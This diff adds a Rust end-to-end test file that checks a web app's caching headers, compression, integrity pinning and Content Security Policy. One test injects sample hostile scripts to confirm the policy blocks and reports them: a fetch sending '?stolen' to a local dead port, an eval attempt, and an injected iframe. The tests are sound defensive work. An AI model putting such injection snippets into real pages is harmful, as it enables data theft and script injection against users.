@@ -1,0 +1,268 @@
+//! How the release is served: headers, caching, what answers an address, and what the policy and the digests in the page
+//! keep from happening.
+
+use anyhow::{Context as _, Result, ensure};
+use bytes::Bytes;
+use http::{Request, Response, StatusCode, header};
+use http_body_util::Full;
+use serde_json::json;
+use velvet_rope_e2e::here;
+use velvet_rope_e2e::http::Client;
+use velvet_rope_e2e::site::Policy;
+use velvet_rope_e2e::stage::{Setup, Stage, Verdict, play};
+use velvet_rope_e2e::wait::eventually;
+
+const FOR_EVER: &str = "public, max-age=31536000, immutable";
+const ASK_EACH_TIME: &str = "no-cache";
+
+/// Evaluates a text; not at once, because what a test runs is allowed more than what the page does later.
+const EVALUATE: &str = "
+    setTimeout(() => {
+        try {
+            window.outcome = new Function('return 1')();
+        } catch (error) {
+            window.outcome = error.name;
+        }
+    });";
+
+/// A frame, as a script would add that wants to be where people type.
+const FRAME: &str = "
+    const frame = document.createElement('iframe');
+    frame.src = 'http://127.0.0.1:9/';
+    document.body.append(frame);";
+
+async fn ask(stage: &Stage, path: &str, encodings: &str) -> Result<Response<Bytes>> {
+    let request = Request::get(stage.site.url(path))
+        .header(header::ACCEPT_ENCODING, encodings)
+        .body(Full::default())?;
+    Client::default().send(request).await
+}
+
+fn value<'a>(answer: &'a Response<Bytes>, name: &str) -> Result<&'a str> {
+    let value = answer
+        .headers()
+        .get(name)
+        .with_context(|| format!("there is no {name}"))?;
+    Ok(value.to_str()?)
+}
+
+/// The paths of the files with this ending whose content the page pins.
+async fn pinned(stage: &Stage, ending: &str) -> Result<Vec<String>> {
+    let answer = ask(stage, "/", "identity").await?;
+    let page = String::from_utf8(answer.body().to_vec())?;
+    let tags = page
+        .split('<')
+        .filter(|tag| tag.contains("integrity=\"sha384-"));
+    let addresses = tags.filter_map(|tag| tag.split_once("href=\"")?.1.split('"').next());
+    let paths: Vec<String> = addresses
+        .filter(|path| path.ends_with(ending))
+        .map(str::to_owned)
+        .collect();
+    ensure!(!paths.is_empty(), "the page pins no {ending}");
+    Ok(paths)
+}
+
+#[test]
+fn every_answer_has_the_headers_that_its_kind_is_to_have() -> Verdict {
+    play(here!(), Setup::default(), async |stage| {
+        let wasm = pinned(stage, ".wasm").await?.remove(0);
+        let script = pinned(stage, ".js").await?.remove(0);
+        let expected = [
+            ("/", "text/html; charset=utf-8", ASK_EACH_TIME),
+            ("/authenticated", "text/html; charset=utf-8", ASK_EACH_TIME),
+            ("/index.html", "text/html; charset=utf-8", ASK_EACH_TIME),
+            ("/config.json", "application/json", ASK_EACH_TIME),
+            ("/signer_bg.wasm", "application/wasm", ASK_EACH_TIME),
+            (&wasm, "application/wasm", FOR_EVER),
+            (&script, "text/javascript; charset=utf-8", FOR_EVER),
+        ];
+        for (path, content_type, cache_control) in expected {
+            let answer = ask(stage, path, "gzip, deflate, br, zstd").await?;
+            ensure!(
+                answer.status() == StatusCode::OK,
+                "{path}: {}",
+                answer.status()
+            );
+            ensure!(
+                value(&answer, "content-type")? == content_type,
+                "{path}: {answer:?}"
+            );
+            ensure!(
+                value(&answer, "cache-control")? == cache_control,
+                "{path}: {answer:?}"
+            );
+            for (name, expected) in stage.site.headers().all() {
+                ensure!(value(&answer, name)? == expected, "{path}: {name}");
+            }
+            if path != "/config.json" {
+                ensure!(
+                    value(&answer, "content-encoding")? == "br",
+                    "{path}: {answer:?}"
+                );
+                let plain = ask(stage, path, "gzip").await?;
+                ensure!(
+                    plain.headers().get("content-encoding").is_none(),
+                    "{path}: {plain:?}"
+                );
+                ensure!(
+                    plain.body().len() > answer.body().len(),
+                    "{path} is not compressed"
+                );
+            }
+        }
+        Ok(())
+    })
+}
+
+#[test]
+fn a_missing_file_is_missing_and_any_other_address_is_a_page() -> Verdict {
+    play(here!(), Setup::default(), async |stage| {
+        for path in [
+            "/velvet-rope-0000000000000000.js",
+            "/missing.wasm",
+            "/snippets/x.js",
+        ] {
+            let answer = ask(stage, path, "br").await?;
+            ensure!(
+                answer.status() == StatusCode::NOT_FOUND,
+                "{path}: {}",
+                answer.status()
+            );
+            value(&answer, "content-security-policy")?;
+        }
+        stage.open("/no/such/page").await?;
+        stage.not_found().heading().element().await?;
+        Ok(())
+    })
+}
+
+#[test]
+fn the_policy_names_exactly_the_hosts_of_the_configuration() -> Verdict {
+    play(here!(), Setup::default(), async |stage| {
+        let answer = ask(stage, "/", "br").await?;
+        let policy = value(&answer, "content-security-policy")?;
+        let directive = policy
+            .split("; ")
+            .find(|directive| directive.starts_with("connect-src "));
+        let mut found: Vec<&str> = directive.unwrap_or_default().split(' ').skip(1).collect();
+        let base_url = stage.config["api"]["base_url"].as_str().unwrap_or_default();
+        let api = base_url.trim_end_matches("/latest");
+        let stand_in = format!("http://localhost:{}", stage.proxy.port());
+        let mut expected = vec!["'self'", api, &stand_in];
+        found.sort_unstable();
+        expected.sort_unstable();
+        ensure!(found == expected, "{found:?} instead of {expected:?}");
+        Ok(())
+    })
+}
+
+#[test]
+fn files_that_are_named_after_their_content_are_fetched_once_and_the_page_each_time() -> Verdict {
+    play(here!(), Setup::default(), async |stage| {
+        let wasm = pinned(stage, ".wasm").await?.remove(0);
+        let asked_before = stage.site.count("/");
+        for _ in 0..3 {
+            stage.open("/").await?;
+            stage.home().wait_for_guest().await?;
+        }
+        ensure!(
+            stage.site.count("/") == asked_before + 3,
+            "asked for the page {} times",
+            stage.site.count("/")
+        );
+        ensure!(
+            stage.site.count("/config.json") == 3,
+            "asked for the configuration {} times",
+            stage.site.count("/config.json")
+        );
+        ensure!(
+            stage.site.count(&wasm) == 1,
+            "asked for {wasm} {} times",
+            stage.site.count(&wasm)
+        );
+        Ok(())
+    })
+}
+
+#[test]
+fn a_page_whose_script_the_policy_does_not_name_stands_still_and_is_reported() -> Verdict {
+    let setup = Setup::default().policy(Policy::OfAnotherBuild);
+    play(here!(), setup, async |stage| {
+        stage.open("/").await?;
+        reported(stage, "script-src-elem").await?;
+        let shown = stage
+            .browser
+            .run("return document.getElementById('boot').textContent", vec![])
+            .await?;
+        ensure!(shown == json!("Loading…"), "the page shows {shown}");
+        let console = stage.browser.console().await?.join("\n");
+        ensure!(
+            console.contains("Content Security Policy"),
+            "the console says {console}"
+        );
+        Ok(())
+    })
+}
+
+#[test]
+fn a_script_on_the_page_cannot_send_evaluate_or_style_past_the_policy() -> Verdict {
+    let setup = Setup::default().policy(Policy::OfAnotherBuild);
+    play(here!(), setup, async |stage| {
+        stage.open("/").await?;
+        let elsewhere = "fetch('http://127.0.0.1:9/?stolen').catch(() => {})";
+        stage.browser.run(elsewhere, vec![]).await?;
+        reported(stage, "connect-src").await?;
+        stage.browser.run(EVALUATE, vec![]).await?;
+        eventually("the refusal to evaluate", async || {
+            let outcome = stage.browser.run("return window.outcome", vec![]).await?;
+            ensure!(outcome == json!("EvalError"), "it answers {outcome}");
+            Ok(Some(()))
+        })
+        .await?;
+        stage
+            .browser
+            .run("document.body.setAttribute('style', 'color: red')", vec![])
+            .await?;
+        reported(stage, "style-src-attr").await?;
+        stage.browser.run(FRAME, vec![]).await?;
+        reported(stage, "frame-src").await
+    })
+}
+
+#[test]
+fn a_script_or_a_style_of_another_content_is_not_taken() -> Verdict {
+    play(here!(), Setup::default(), async |stage| {
+        pinned(stage, ".wasm").await?;
+        let mut changed = pinned(stage, ".js").await?;
+        changed.extend(pinned(stage, ".css").await?);
+        for path in &changed {
+            stage.site.tamper_with(path);
+        }
+        stage.open("/").await?;
+        for path in changed {
+            let refusal = format!("refusal of {path}");
+            eventually(&refusal, async || {
+                let console = stage.browser.console().await?;
+                let refused = |line: &String| line.contains("integrity") && line.contains(&path);
+                Ok(console.iter().any(refused).then_some(()))
+            })
+            .await?;
+        }
+        let shown = stage
+            .browser
+            .run("return document.getElementById('boot').textContent", vec![])
+            .await?;
+        ensure!(shown == json!("Loading…"), "the page shows {shown}");
+        Ok(())
+    })
+}
+
+/// Waits for a report that `directive` kept the page from something.
+async fn reported(stage: &Stage, directive: &str) -> Result<()> {
+    eventually(&format!("a report about {directive}"), async || {
+        let reports = stage.site.reports();
+        let found = reports.iter().any(|report| report.contains(directive));
+        Ok(found.then_some(()))
+    })
+    .await
+}
